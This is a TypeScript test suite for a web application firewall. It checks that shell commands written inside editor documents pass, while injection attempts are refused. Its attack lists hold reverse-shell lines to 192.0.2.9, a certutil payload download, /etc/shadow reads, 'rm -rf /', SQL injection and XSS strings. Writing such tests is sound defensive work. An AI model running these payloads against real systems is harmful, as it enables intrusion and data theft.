// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what looks like a template is the matter here
import { strictEqual } from "node:assert/strict";
import { describe, test } from "node:test";
import { builtinRules, withBuiltinRules } from "../../src/builtin/index.ts";
import { ruleSet } from "../../src/rule/index.ts";
import { judge, openWaf } from "./engine.ts";

// Documents of editors as JSON, and what their authors write about commands; and the same text where a command may be run.

const waf = openWaf();
const JSON_TYPE = "application/json";

function status(body: unknown, of = waf): number {
  const { verdict } = judge(of, { type: JSON_TYPE, body: JSON.stringify(body) });
  return verdict.act === "refuse" ? verdict.status : 200;
}

/** The text in a document of each editor. */
const EDITORS: readonly (readonly [name: string, of: (text: string) => unknown])[] = [
  ["ProseMirror", (text) => ({ doc: { type: "doc", content: [{ type: "paragraph", content: [{ type: "text", text }] }] } })],
  ["Lexical", (text) => ({ editorState: { root: { children: [{ children: [{ text, type: "text", version: 1 }], type: "paragraph" }] } } })],
  ["Slate", (text) => [{ type: "code", children: [{ text }] }]],
  ["Quill", (text) => ({ body: { ops: [{ insert: text }, { insert: "\n", attributes: { "code-block": true } }] } })],
  ["Editor.js", (text) => ({ time: 1, blocks: [{ type: "code", data: { code: text } }] })],
  ["Draft.js", (text) => ({ raw: { blocks: [{ key: "a1", text, type: "code-block" }], entityMap: {} } })],
  ["Contentful", (text) => ({ fields: { body: { "en-US": { content: [{ nodeType: "paragraph", content: [{ nodeType: "text", value: text }] }] } } } })],
  ["Notion", (text) => ({ children: [{ code: { rich_text: [{ type: "text", text: { content: text } }] } }] })],
  ["Ghost", (text) => ({ posts: [{ title: "a", lexical: JSON.stringify({ root: { children: [{ children: [{ text, type: "extended-text" }] }] } }) }] })],
  ["a talk with a model", (text) => ({ model: "m", messages: [{ role: "user", content: text }] })],
  ["a talk with a model, in parts", (text) => ({ messages: [{ role: "user", content: [{ type: "text", text }] }] })],
  ["a container", (text) => ({ kind: "Pod", spec: { containers: [{ name: "a", args: ["-c", text] }] } })],
  ["a notebook", (text) => ({ content: { cells: [{ cell_type: "code", source: [text] }] } })],
]; // biome-ignore format: one row each

const WRITTEN: readonly string[] = [
  "kubectl logs -f -l app=web -n shop",
  "`systemctl restart nginx`",
  "$(hostname -i)",
  "| grep -i taints`",
  "& rm -rf /usr/.cache/pip",
  "<(ls /tmp) <(ls /var/tmp)",
  '; print $b if $b; $b=""}\' broken.txt',
  "${file##*/}",
  "$0",
  "helm upgrade --install web ./chart",
  "docker run --rm -it alpine sh",
  "`id`",
  "journalctl -u nginx --since today",
  '          command: [ "sh", "-c", "source /etc/shop/config && /usr/bin/shop" ]',
  "CONTEXT=$(kubectl config view -o jsonpath='{.current-context}')",
  '$ t="${file##*/}"',
  "<code>diff <(ls a) <(ls b)</code>",
  "find . -name '*.log' -mtime +7 -delete",
  "Get-ChildItem -Path C:\\Logs",
];

const ATTACKS: readonly string[] = [
  ";cat /etc/passwd",
  "|id",
  "$(id)",
  "`cat /etc/passwd`",
  "x;whoami",
  "127.0.0.1 && sleep 5",
  "`ping -c 3 192.0.2.9`",
  "$(curl http://192.0.2.9/a)",
  "; nc -e /bin/sh 192.0.2.9 4444",
  "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1",
  "() { :;}; /bin/bash -c id",
  "a';uname -a;'",
  "\n/usr/bin/id\n",
  "|/bin/cat /etc/shadow",
  ";rm -rf /",
  "|ls -la /",
  "& net user",
  "1;ps aux",
  "192.0.2.9;wh$()oami",
  ";crontab -l",
  "192.0.2.9;${PATH:0:1}bin${PATH:0:1}ls",
  "& certutil -urlcache -split -f http://h.example/a.exe a.exe",
  "%26%20sleep%205",
  "c'a't /et'c'/pas'swd'",
  "$(`whoami`)",
  "'||ping -c 3 192.0.2.9||'",
  "a.txt&& ls -l /srv/*",
  "|type c:\\windows\\win.ini",
  "<script>go(1)</script>",
  "' union select a,b from users-- -",
];

describe("The built-in rules take the text of an editor for a text", () => {
  for (const [name, of] of EDITORS) {
    test(`and let people write about commands in ${name}`, () => {
      for (const text of WRITTEN) strictEqual(status(of(text)), 200, text);
    });
    test(`and refuse what an intruder would put into ${name}`, () => {
      for (const text of ATTACKS) strictEqual(status(of(text)), 403, text);
    });
  }

  test("and nothing else: the same commands are refused where one may be run", () => {
    const sure = ["$(hostname -i)", "| grep -i taints`", "& rm -rf /usr/.cache/pip", "du -sh /var/lib"];
    for (const name of ["host", "text", "content", "value", "cmd"])
      for (const text of sure) strictEqual(status({ [name]: text, list: [{ [name]: text }] }), 403, `${name}: ${text}`);
    for (const text of sure)
      strictEqual(judge(waf, { target: `/?children.array_0.text=${encodeURIComponent(text)}` }).verdict.act, "refuse");
  });

  test("at level 1 only", () => {
    const strict = openWaf(builtinRules({ paranoia: 2 }));
    strictEqual(status({ content: [{ text: "$(hostname -i)" }] }, strict), 403);
  });
});

describe("The built-in rules read a document of thousands of members", () => {
  const paragraph = (at: number): unknown => ({ type: "paragraph", content: [{ type: "text", text: `Paragraph ${at}` }] });
  const members = (count: number): unknown => ({ doc: { type: "doc", content: Array.from({ length: count }, (_, at) => paragraph(at)) } });

  test("as long as it is one that an editor makes", () => {
    strictEqual(status(members(1_300)), 200);
    strictEqual(status(Array.from({ length: 900 }, (_, id) => ({ id, name: `Name ${id}`, on: true, price: id / 8 }))), 200);
  });

  test("and find what stands in the last of them", () => {
    const document = [members(1_300), { text: "x' or 1=1-- -" }];
    strictEqual(status(document), 403);
  });

  test("and refuse more of them, and what costs too much", () => {
    strictEqual(status(Array.from({ length: 10_001 }, () => 1)), 400);
    strictEqual(status(Array.from({ length: 9_000 }, (_, at) => `${at}'<b`)), 403);
  });

  test("and count as the rules say that they are loaded with", () => {
    const both = openWaf(withBuiltinRules(ruleSet([])));
    strictEqual(
      status(
        Array.from({ length: 1_001 }, () => 1),
        both,
      ),
      400,
    );
    strictEqual(
      status(
        Array.from({ length: 999 }, () => 1),
        both,
      ),
      200,
    );
  });
});

describe("The built-in rules take answers of a gateway for settings", () => {
  const template = (value: string): unknown => ({
    Resources: { Api: { Properties: { Body: { "x-amazon-apigateway-gateway-responses": { UNAUTHORIZED: { responseParameters: { "gatewayresponse.header.Access-Control-Allow-Origin": value } } } } } } },
  }); // biome-ignore format: one line

  test("and let them hold texts in quotes", () => {
    for (const value of ["'*'", "'https://a.example'", "'GET,POST,OPTIONS'"]) strictEqual(status(template(value)), 200, value);
    strictEqual(
      status({ responses: { default: { responseParameters: { "method.response.header.Access-Control-Allow-Origin": "'*'" } } } }),
      200,
    );
  });

  test("and no statements; and nothing of the kind elsewhere", () => {
    for (const value of ["' union select a,b from users-- -", "';drop table users;--", "' or sleep(5)='"]) strictEqual(status(template(value)), 403, value);
    for (const name of ["user", "header", "Access-Control-Allow-Origin"]) strictEqual(status({ [name]: "'*'" }), 403, name);
  }); // biome-ignore format: one line each
});

describe("The built-in rules take what containers show of their host for settings", () => {
  const pod = (path: string): unknown => ({
    spec: { volumes: [{ hostPath: { path } }], containers: [{ volumeMounts: [{ name: "a", mountPath: path }] }] },
  });

  test("and let them name folders and files that are no secret", () => {
    for (const path of ["/etc/localtime", "/etc/nginx/conf.d", "/var/log/shop", "/var/lib/mysql", "/etc/ssl/certs"])
      strictEqual(status(pod(path)), 200, path);
    strictEqual(status({ HostConfig: { Binds: ["/etc/localtime:/etc/localtime:ro", "/srv/www:/var/www/html"] } }), 200);
  });

  test("and refuse those that are, and steps up, and the same elsewhere", () => {
    for (const path of ["/etc/shadow", "/etc/passwd", "/proc/self/environ", "../../../../etc/passwd", "/var/run/docker.sock"])
      strictEqual(status(pod(path)), 403, path);
    for (const name of ["path", "file", "page", "volume"]) strictEqual(status({ [name]: "/var/lib/mysql/mysql" }), 403, name);
  });
});

describe("The built-in rules take reports of a browser for reports", () => {
  const report = (sample: string): unknown => ({
    "csp-report": { "document-uri": "https://example.com/", "blocked-uri": "inline", "script-sample": sample },
  });

  test("and let them show the beginning of a script", () => {
    for (const sample of [
      "document.write('<div",
      "alert(1)",
      "var a = window.location.href; if (a) {",
      "(function(){window.x=1",
      "onclick(); return fals",
    ])
      strictEqual(status(report(sample)), 200, sample);
    strictEqual(status([{ type: "csp-violation", url: "https://example.com/", body: { sample: "document.write('<div" } }]), 200);
  });

  test("and refuse script that would run where they are read, and the same elsewhere", () => {
    for (const sample of [
      "<script>go(1)</script>",
      "<img src=x onerror=go(1)>",
      '"><svg onload=go(1)>',
      "' union select a,b from users-- -",
    ])
      strictEqual(status(report(sample)), 403, sample);
    for (const name of ["sample", "script-sample", "text"]) strictEqual(status({ [name]: "document.write('<div" }), 403, name);
  });
});
